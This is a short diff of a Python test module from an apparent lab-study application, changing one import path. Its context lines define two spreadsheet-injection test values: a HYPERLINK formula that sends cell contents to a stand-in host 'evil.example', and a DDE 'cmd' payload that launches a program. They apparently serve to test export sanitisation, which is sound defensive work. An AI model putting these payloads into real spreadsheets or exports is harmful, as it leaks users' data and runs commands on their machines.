@@ -39,7 +39,7 @@ from animals.models import BodyWeight, Observation
 from labstudy import services
 from labstudy.models import Membership, Phase, Role, Timepoint, TreatmentGroup
 from sessions import services as session_services
-from tests.analysis.dashboard_world import series_to
+from tests.worlds import series_to
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2&B2,"click")'
 CMD = "+1+cmd|' /C calc'!A0"
